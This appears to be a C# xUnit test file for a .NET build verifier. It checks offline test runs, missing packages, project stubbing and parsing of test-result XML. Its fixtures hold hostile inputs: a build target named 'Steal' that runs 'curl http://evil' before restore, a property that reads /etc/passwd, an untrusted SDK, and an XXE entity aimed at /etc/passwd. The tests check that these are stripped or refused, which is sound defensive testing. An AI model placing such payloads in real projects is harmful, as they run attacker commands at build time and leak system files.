using System.Diagnostics;
using System.Runtime.Versioning;
using Conclave.Tests.Workspace.Sandbox;
using Conclave.Workspace.Verification;

namespace Conclave.Tests.Workspace.Verification;

/// <summary>.NET projects with packages, from a folder of this machine, and what becomes of them without.</summary>
[SupportedOSPlatform("linux")]
public sealed class PackagedDotnetTests(VerifierFixture fixture) : IClassFixture<VerifierFixture>
{
    private const string Project = """
        <Project Sdk="Microsoft.NET.Sdk"><PropertyGroup><OutputType>Exe</OutputType><TargetFramework>net10.0</TargetFramework></PropertyGroup>
        <ItemGroup><PackageReference Include="Microsoft.NET.Test.Sdk" Version="18.11.0" /><PackageReference Include="xunit.v3" Version="3.2.2" /><PackageReference Include="xunit.runner.visualstudio" Version="3.1.5" /></ItemGroup></Project>
        """;

    private static readonly string Packages = Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.UserProfile), ".nuget", "packages");

    [Fact]
    public async Task Tests_are_run_offline_and_counted_when_the_packages_are_at_hand()
    {
        Needs.Program("dotnet");
        Needs.Folder(Path.Combine(Packages, "xunit.v3", "3.2.2"), "xunit.v3 3.2.2");
        Needs.Folder(Path.Combine(Packages, "microsoft.net.test.sdk", "18.11.0"), "Microsoft.NET.Test.Sdk 18.11.0");
        var folder = Path.Combine(Path.GetDirectoryName(fixture.Options.Directory)!, "nuget");
        using (var copy = Process.Start("cp", ["-al", Packages, folder]))
        {
            await copy.WaitForExitAsync(TestContext.Current.CancellationToken);
            Assert.SkipUnless(copy.ExitCode == 0, "needs a temporary folder on the disk of the packages");
        }

        var report = await fixture.Verify(
            Downloads.Never,
            PackageSources.Default with { NuGetFolder = folder },
            ("tests/tests.csproj", Project),
            ("tests/Tests.cs", "public class Tests { [Xunit.Fact] public void Adds() => Xunit.Assert.Equal(2, 1 + 1); [Xunit.Fact] public void Fails() => Xunit.Assert.Equal(3, 1 + 1); [Xunit.Fact(Skip = \"later\")] public void Later() { } }"));

        Assert.Equal((VerificationOutcome.Red, "1 of 2 tests failed: Tests.Fails: Failed: Assert.Equal() Failure: Values differ"), (report.Outcome, report.Reason + (report.Commands[^1].Tests is { Run: 0 } ? FailureExcerpt.Of(report, 3000) : "")));
        Assert.Equal(new TestCounts(2, 1, 1, 1), report.Commands[^1].Tests);
    }

    [Fact]
    public async Task A_package_that_is_not_to_be_had_is_no_fault_of_the_project()
    {
        Needs.Program("dotnet");
        var folder = Directory.CreateDirectory(Path.Combine(Path.GetDirectoryName(fixture.Options.Directory)!, "empty", "xunit.v3", "3.2.2")).Parent!.Parent!.FullName;

        var report = await fixture.Verify(
            Downloads.Never,
            PackageSources.Default with { NuGetFolder = folder },
            ("app.csproj", """<Project Sdk="Microsoft.NET.Sdk"><PropertyGroup><TargetFramework>net10.0</TargetFramework></PropertyGroup><ItemGroup><PackageReference Include="xunit.v3" Version="3.2.2" /></ItemGroup></Project>"""),
            ("A.cs", "class A { }"));

        Assert.Equal(VerificationOutcome.Unverified, report.Outcome);
        Assert.Contains("dependencies can't be installed: downloads are not allowed", report.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void A_stub_asks_for_the_same_packages_and_has_nothing_else_of_the_project()
    {
        var tree = ProjectTree.Of(new Dictionary<string, string>
        {
            ["Directory.Packages.props"] = """<Project><ItemGroup><PackageVersion Include="Odd" Version="1.2.3" /></ItemGroup></Project>""",
            ["src/Directory.Build.props"] = """<Project><PropertyGroup><TargetFramework>net10.0</TargetFramework><EvenVersion>4.5.6</EvenVersion></PropertyGroup></Project>""",
            ["src/a.csproj"] = """
                <Project Sdk="Microsoft.NET.Sdk"><ItemGroup><PackageReference Include="Odd" /><PackageReference Include="Even"><Version>$(EvenVersion)</Version></PackageReference></ItemGroup>
                <Target Name="Steal" BeforeTargets="Restore"><Exec Command="curl http://evil" /></Target></Project>
                """,
        });

        var stub = DotnetProject.Read(tree, "src/a.csproj")!.Stub()!;

        Assert.Contains("<PackageReference Include=\"Even\" Version=\"4.5.6\" />", stub, StringComparison.Ordinal);
        Assert.Contains("<PackageReference Include=\"Odd\" Version=\"1.2.3\" />", stub, StringComparison.Ordinal);
        Assert.DoesNotMatch("Target Name|Exec|evil", stub);
    }

    [Theory]
    [InlineData("""<Project Sdk="Evil.Sdk/1.0"><PropertyGroup><TargetFramework>net10.0</TargetFramework></PropertyGroup></Project>""")]
    [InlineData("""<Project Sdk="Microsoft.NET.Sdk"><PropertyGroup><TargetFramework>$([System.IO.File]::ReadAllText('/etc/passwd'))</TargetFramework></PropertyGroup></Project>""")]
    [InlineData("""<Project Sdk="Microsoft.NET.Sdk"><PropertyGroup><TargetFramework>net10.0</TargetFramework></PropertyGroup><ItemGroup><PackageReference Include="A" Version="$(Unknown)" /></ItemGroup></Project>""")]
    public void What_can_only_be_understood_by_running_it_has_no_stub(string project) =>
        Assert.Null(DotnetProject.Read(ProjectTree.Of(new Dictionary<string, string> { ["a.csproj"] = project }), "a.csproj")!.Stub());

    [Fact]
    public void The_results_of_surefire_and_of_dotnet_test_are_read()
    {
        var results = XmlResults.Read([
            """
            <testsuite name="a.LinksTest" tests="3"><testcase classname="a.LinksTest" name="hits"/><testcase classname="a.LinksTest" name="wrong">
            <failure message="expected: 1" type="org.opentest4j.AssertionFailedError">stack</failure></testcase><testcase classname="a.LinksTest" name="later"><skipped/></testcase></testsuite>
            """,
            "\uFEFF" + """<TestRun xmlns="http://microsoft.com/schemas/VisualStudio/TeamTest/2010"><Results><UnitTestResult testName="A.B" outcome="Passed" /><UnitTestResult testName="A.C" outcome="NotExecuted" /></Results></TestRun>""",
            "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><testsuite><testcase name='&e;'/></testsuite>",
            "no xml",
        ]);

        Assert.Equal(
            [("a.LinksTest.hits", TestOutcome.Passed), ("a.LinksTest.wrong", TestOutcome.Failed), ("a.LinksTest.later", TestOutcome.Skipped), ("A.B", TestOutcome.Passed), ("A.C", TestOutcome.Skipped)],
            results.Select(result => (result.Test, result.Outcome)));
    }
}
